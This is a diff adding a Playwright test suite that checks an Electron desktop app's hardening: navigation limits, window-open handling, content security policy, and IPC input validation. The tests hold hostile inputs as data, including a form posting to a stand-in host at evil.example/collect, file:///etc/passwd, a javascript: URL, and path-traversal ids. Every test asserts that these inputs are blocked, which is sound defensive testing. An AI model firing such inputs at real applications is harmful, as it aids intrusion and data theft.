@@ -1,0 +1,164 @@
+import { expect, type Page, test } from '@playwright/test';
+import { type Desktop, launchDesktop, whyNoElectron } from '../support/desktopApp.ts';
+import { TEST_ORIGIN, TEST_SECRET } from '../support/testStore.ts';
+
+test.skip(whyNoElectron() !== null, whyNoElectron() ?? '');
+
+let desktop: Desktop;
+let page: Page;
+test.beforeEach(async () => {
+  desktop = await launchDesktop({ apiUrl: TEST_ORIGIN, secret: TEST_SECRET });
+  page = desktop.page;
+  // What leaves the client is caught at the last step: the system's browser stays shut.
+  await desktop.app.evaluate(({ shell }) => {
+    const opened: string[] = [];
+    Object.assign(globalThis, { opened });
+    shell.openExternal = (url) => Promise.resolve(void opened.push(url));
+  });
+});
+test.afterEach(() => desktop.close());
+
+const opened = (): Promise<string[]> =>
+  desktop.app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
+const windows = (): Promise<number> =>
+  desktop.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length);
+const shownUrl = (): Promise<string> =>
+  desktop.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]!.webContents.getURL());
+
+for (const address of [
+  'https://evil.example/',
+  'https://evil.example/?x=app://bundle/',
+  'data:text/html,<h1>x</h1>',
+  'file:///etc/passwd',
+]) {
+  test(`the window does not go to ${address}`, async () => {
+    await page.evaluate((to) => {
+      const link = document.createElement('a');
+      link.href = to;
+      link.textContent = 'hostile';
+      document.body.prepend(link);
+    }, address);
+    await page.getByText('hostile').click();
+    await page.evaluate((to) => void (location.href = to), address).catch(() => undefined);
+    await expect.poll(shownUrl).toMatch(/^app:\/\/bundle\//);
+    await expect(page.getByText('hostile')).toBeVisible();
+    expect(await opened()).toEqual([]);
+  });
+}
+
+test('a form does not carry what was typed to somebody else', async () => {
+  await page.evaluate(() => {
+    const form = document.createElement('form');
+    form.action = 'https://evil.example/collect';
+    form.method = 'post';
+    form.innerHTML = '<button>Send away</button>';
+    document.body.prepend(form);
+  });
+  // Not `click`, which would wait for the navigation that is refused.
+  await page.getByRole('button', { name: 'Send away' }).dispatchEvent('click');
+  expect(await page.evaluate(() => fetch('/index.html').then(({ ok }) => ok))).toBe(true);
+  await expect.poll(shownUrl).toMatch(/^app:\/\/bundle\//);
+});
+
+test('no second window opens; an https address goes to the system, any other goes nowhere', async () => {
+  await page.evaluate(() => {
+    for (const to of ['http://maker.example/', 'file:///etc/passwd', '/cart', 'https://maker.example/manual.pdf']) {
+      const link = document.createElement('a');
+      Object.assign(link, { href: to, target: '_blank', textContent: `Opens ${to}` });
+      document.body.prepend(link);
+    }
+  });
+  for (const to of ['http://maker.example/', 'file:///etc/passwd', '/cart', 'https://maker.example/manual.pdf']) {
+    await page.getByText(`Opens ${to}`).click();
+  }
+  await expect.poll(opened).toEqual(['https://maker.example/manual.pdf']);
+  expect(await windows()).toBe(1);
+});
+
+test('a script that opens a window gets none', async () => {
+  // noopener: refused in the page's own process, the window would hold the page up under two debuggers.
+  await page.evaluate(() => void window.open('https://maker.example/', '_blank', 'noopener'));
+  await expect.poll(opened).toEqual(['https://maker.example/']);
+  expect(await windows()).toBe(1);
+});
+
+test('the page holds nothing of Node or Electron but named functions', async () => {
+  const seen = await page.evaluate(() => ({
+    node: ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'].filter(
+      (name) => name in window,
+    ),
+    kinds: Object.values(window.desktop ?? {}).map((value) => typeof value),
+    isFrozen: !Reflect.set(window, 'desktop', {}) && !Reflect.set(window.desktop ?? {}, 'call', () => null),
+  }));
+  expect(seen.node).toEqual([]);
+  expect(new Set(seen.kinds)).toEqual(new Set(['function']));
+  expect(seen.isFrozen).toBe(true);
+});
+
+test('script, style, frame and network from elsewhere do not run', async () => {
+  const done = await page.evaluate(async () => {
+    const add = (tag: string, change: (element: HTMLElement) => void): void => {
+      const element = document.createElement(tag);
+      change(element);
+      document.body.append(element);
+    };
+    add('script', (script) => (script.textContent = 'window.inlineRan = true'));
+    add('style', (style) => (style.textContent = 'body { outline: 7px solid red }'));
+    add('div', (div) => (div.innerHTML = '<img src="x" onerror="window.handlerRan = true">'));
+    add('iframe', (frame) => ((frame as HTMLIFrameElement).src = '/'));
+    const blocked = (url: string): Promise<string> =>
+      fetch(url).then(
+        () => 'answered',
+        () => 'blocked',
+      );
+    // In a turn of the page's own: what the test driver runs directly is let off the policy.
+    const evaluated = await new Promise<string>((resolve) =>
+      setTimeout(() => {
+        try {
+          resolve(String(window.eval('"ran"')));
+        } catch {
+          resolve('blocked');
+        }
+      }),
+    );
+    return {
+      elsewhere: await blocked('https://evil.example/'),
+      evaluated,
+      ran: ['inlineRan', 'handlerRan'].filter((name) => name in window),
+      outline: getComputedStyle(document.body).outlineWidth === '7px',
+      frame: document.querySelector('iframe')?.contentDocument?.getElementById('root') ?? null,
+    };
+  });
+  expect(done).toEqual({ elsewhere: 'blocked', evaluated: 'blocked', ran: [], outline: false, frame: null });
+});
+
+test('what is asked over IPC outside the contract is refused with its reason', async () => {
+  const refused = await page.evaluate(async () => {
+    const bridge = window.desktop as unknown as Record<string, (input: unknown) => Promise<unknown>>;
+    const why = (promise: Promise<unknown>): Promise<string> =>
+      promise.then(
+        () => 'answered',
+        (error: Error) => error.message,
+      );
+    return Promise.all([
+      why(bridge['call']!({ id: 1, name: 'refreshToken', payload: {} })),
+      why(bridge['call']!({ id: 1, name: 'https://evil.example/', payload: {} })),
+      why(bridge['openLink']!('javascript:alert(1)')),
+      why(bridge['openLink']!('file:///etc/passwd')),
+      why(bridge['setLanguage']!('../../x')),
+    ]);
+  });
+  for (const reason of refused) expect(reason).toMatch(/\[ipc \S+ input\]/);
+  expect(await opened()).toEqual([]);
+});
+
+test('an operation cannot be made to reach another address', async () => {
+  const answers = await page.evaluate(() =>
+    Promise.all(
+      ['../../../healthz', '..', '//evil.example/', 'https://evil.example/', '1/../../x'].map((id, at) =>
+        window.desktop!.call({ id: 100 + at, name: 'readProduct', payload: { id } }),
+      ),
+    ),
+  );
+  for (const answer of answers) expect(answer.ok).toBe(false);
+});
